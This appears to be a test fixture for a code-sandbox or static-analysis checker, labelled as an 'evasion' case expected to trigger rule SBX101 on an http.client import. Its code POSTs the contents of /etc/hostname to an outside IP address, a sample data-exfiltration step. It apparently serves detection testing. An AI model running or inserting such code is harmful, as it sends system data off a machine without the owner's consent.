# label: evasion
# family: imports
import http.client  # want: SBX101

conn = http.client.HTTPConnection("203.0.113.7", 8080)
conn.request("POST", "/", body=open("/etc/hostname").read())
